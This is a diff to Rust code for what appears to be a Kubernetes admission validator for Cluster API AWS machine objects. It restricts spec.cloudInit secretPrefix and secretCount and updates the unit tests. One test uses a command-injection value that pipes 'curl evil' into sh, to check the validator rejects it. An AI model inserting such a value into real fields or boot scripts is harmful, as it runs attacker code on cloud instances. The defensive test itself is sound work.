@@ -43,9 +43,9 @@ fn eks_version(value: &Value) -> Option<(u64, u64)> {
 }
 
 /// AWSMachines and AWSMachineTemplates (whose `spec.template.spec` is an AWSMachine's):
-/// Cluster API AWS's rules for where the bootstrap data waits (`spec.cloudInit`). The prefix
-/// of its entries is also a shell word of the instance's boot script: only the characters
-/// AWS allows in a secret's or parameter's name pass.
+/// Cluster API AWS's rules for where the bootstrap data waits (`spec.cloudInit`): where its
+/// entries are is each machine's own, never a template's, and only the characters AWS allows
+/// in a secret's name pass.
 pub struct Machines;
 
 impl Strategy for Machines {
@@ -70,7 +70,14 @@ impl Strategy for Machines {
                 }
             }
         }
-        if prefix.is_empty() != (count == 0) {
+        if path != "spec" {
+            // Each machine's own, never shared by the machines of a template.
+            for name in ["secretPrefix", "secretCount"] {
+                if set(&cloud_init[name]) {
+                    causes.push(Cause::forbidden(field(name), "cannot be set in templates"));
+                }
+            }
+        } else if prefix.is_empty() != (count == 0) {
             causes.push(Cause::forbidden(
                 field("secretCount"),
                 "must be set together with spec.cloudInit.secretPrefix",
@@ -87,11 +94,11 @@ impl Strategy for Machines {
                 "at most 400 of A-Z, a-z, 0-9 and /_+=.@- (what AWS allows in the name of a secret or parameter)",
             ));
         }
-        if count < 0 {
+        if !(0..=400).contains(&count) {
             causes.push(Cause::invalid(
                 field("secretCount"),
                 &cloud_init["secretCount"],
-                "must not be negative",
+                "must be between 1 and 400",
             ));
         }
         causes
@@ -1052,14 +1059,33 @@ mod tests {
             ]
         );
         // The prefix is a word of the instance's boot script.
-        let template = json!({"kind": "AWSMachineTemplate", "spec": {"template": {"spec": {"cloudInit":
-            {"secretPrefix": "x'; curl evil | sh; '", "secretCount": 1}}}}});
-        let causes = admit(&Machines, template, None);
+        let causes = admit(
+            &Machines,
+            machine(json!({"secretPrefix": "x'; curl evil | sh; '", "secretCount": 1})),
+            None,
+        );
         assert_eq!(causes.len(), 1, "{causes:?}");
         assert!(
-            causes[0].starts_with("spec.template.spec.cloudInit.secretPrefix: ")
+            causes[0].starts_with("spec.cloudInit.secretPrefix: ")
                 && causes[0].contains("at most 400 of"),
             "{causes:?}"
+        );
+        let causes = admit(
+            &Machines,
+            machine(json!({"secretPrefix": "aws.cluster.x-k8s.io/1c8e", "secretCount": 100000})),
+            None,
+        );
+        assert_eq!(causes.len(), 1, "{causes:?}");
+        assert!(causes[0].contains("between 1 and 400"), "{causes:?}");
+        // A template's machines would share the entries.
+        let template = json!({"kind": "AWSMachineTemplate", "spec": {"template": {"spec": {"cloudInit":
+            {"secretPrefix": "aws.cluster.x-k8s.io/1c8e", "secretCount": 1}}}}});
+        assert_eq!(
+            admit(&Machines, template, None),
+            [
+                "spec.template.spec.cloudInit.secretPrefix: Forbidden: cannot be set in templates",
+                "spec.template.spec.cloudInit.secretCount: Forbidden: cannot be set in templates"
+            ]
         );
     }
 
